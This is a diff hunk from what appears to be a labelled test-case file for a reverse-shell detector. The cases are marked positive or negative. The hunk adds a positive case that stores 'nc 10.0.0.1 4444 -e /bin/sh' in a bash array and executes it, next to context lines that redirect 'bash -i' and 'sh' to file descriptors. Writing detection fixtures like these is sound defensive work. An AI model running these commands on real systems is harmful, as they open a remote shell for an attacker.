@@ -43,3 +43,6 @@ bash -i <&"${N[0]}" >&"${N[1]}" 2>&1
 sh <&"$fd"
 #@ neg a loop reading from fd 3
 while read -r line; do echo "$line"; done <&3
+#@ pos a reverse shell whose command line an array holds
+cmd=(nc 10.0.0.1 4444 -e /bin/sh)
+"${cmd[@]}"
